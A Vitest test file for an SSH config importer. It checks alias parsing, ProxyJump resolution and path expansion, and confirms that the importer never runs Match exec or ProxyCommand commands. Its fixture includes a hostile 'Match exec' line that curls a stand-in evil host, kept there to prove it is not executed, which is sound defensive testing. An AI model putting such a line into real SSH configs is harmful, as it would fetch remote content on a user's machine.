import { existsSync, mkdtempSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { importSshConfig } from '../../../src-main/profiles/ssh-config-import.js';

const CONFIG = `
# personal config
Host bastion
  HostName bastion.example.com
  User jump
  IdentityFile ~/.ssh/id_bastion

Host web1 web1-alias
  HostName 10.0.0.11
  Port 2222
  ProxyJump bastion

Host db
  HostName=%h.internal
  User "dba"
  ProxyJump ops@bastion:2200,web1

Host legacy
  ProxyCommand ssh -W %h:%p gateway

Match exec "curl http://evil.example/run"
  User pwned

Host *.example.com !skip.example.com
  User wildcard-user

Host *
  User default-user
  IdentityFile ~/.ssh/id_default
  IdentityFile ~/.ssh/id_second
`;

describe('importSshConfig', () => {
  const result = importSshConfig(CONFIG, { home: '/home/me', localUser: 'me' });
  const byName = Object.fromEntries(result.profiles.map((p) => [p.name, p]));

  it('imports every concrete Host alias, in order, and no wildcard patterns', () => {
    expect(result.profiles.map((p) => p.name)).toEqual([
      'bastion',
      'web1',
      'web1-alias',
      'db',
      'legacy',
    ]);
  });

  it('takes the first value of each keyword, expands ~ in IdentityFile and %h in HostName', () => {
    expect(byName.bastion).toMatchObject({
      host: 'bastion.example.com',
      port: 22,
      user: 'jump',
      auth: { kind: 'key', keyPath: '/home/me/.ssh/id_bastion' },
      jumpHosts: [],
    });
    expect(byName.db).toMatchObject({ host: 'db.internal', user: 'dba' });
    expect(byName.legacy).toMatchObject({
      host: 'legacy',
      user: 'default-user',
      auth: { kind: 'key', keyPath: '/home/me/.ssh/id_default' },
    });
  });

  it('resolves ProxyJump hops through the same config, with user@host:port overrides', () => {
    expect(byName.web1).toMatchObject({ host: '10.0.0.11', port: 2222 });
    expect(byName.web1?.jumpHosts).toEqual([
      {
        kind: 'address',
        host: 'bastion.example.com',
        port: 22,
        user: 'jump',
        auth: { kind: 'key', keyPath: '/home/me/.ssh/id_bastion' },
      },
    ]);
    expect(byName.db?.jumpHosts).toEqual([
      expect.objectContaining({ host: 'bastion.example.com', port: 2200, user: 'ops' }),
      expect.objectContaining({ host: '10.0.0.11', port: 2222, user: 'default-user' }),
    ]);
  });

  it('never evaluates Match (no exec) nor imports ProxyCommand, and says so', () => {
    expect(JSON.stringify(result.profiles)).not.toContain('pwned');
    expect(JSON.stringify(result.profiles)).not.toContain('gateway');
    expect(result.warnings).toEqual([
      expect.stringMatching(
        /^"Match exec curl http:\/\/evil\.example\/run" was not evaluated: it would run a command/,
      ),
      expect.stringMatching(
        /^legacy: ProxyCommand needs your consent to run and Periscope never runs it/,
      ),
    ]);
  });

  it('never runs a Match exec command nor a DNS lookup, and applies Match host blocks', () => {
    const dir = mkdtempSync(path.join(os.tmpdir(), 'periscope-sshcfg-'));
    const canary = path.join(dir, 'ran');
    try {
      const { profiles, warnings } = importSshConfig(
        [
          'Host box',
          '  HostName box.lan',
          '  CanonicalizeHostName yes',
          '  CanonicalDomains example.com',
          `Match exec "touch ${canary}"`,
          '  Port 2022',
          'Match host box.lan',
          '  User from-match',
          'Include ~/.ssh/config.d/*',
        ].join('\n'),
        { home: '/h', localUser: 'me' },
      );
      expect(existsSync(canary)).toBe(false);
      expect(profiles).toEqual([
        expect.objectContaining({ name: 'box', host: 'box.lan', port: 22, user: 'from-match' }),
      ]);
      expect(warnings).toEqual([
        expect.stringMatching(/^"Match exec touch .*" was not evaluated/),
        expect.stringMatching(/^"Include ~\/\.ssh\/config\.d\/\*" was not followed/),
        expect.stringMatching(/^CanonicalizeHostName was ignored/),
      ]);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('uses the agent when there is no IdentityFile, and the local user by default', () => {
    const { profiles } = importSshConfig('Host box\n  HostName 192.0.2.1\n', {
      home: '/h',
      localUser: 'me',
    });
    expect(profiles).toEqual([
      expect.objectContaining({
        name: 'box',
        host: '192.0.2.1',
        user: 'me',
        port: 22,
        auth: { kind: 'agent' },
      }),
    ]);
  });
});
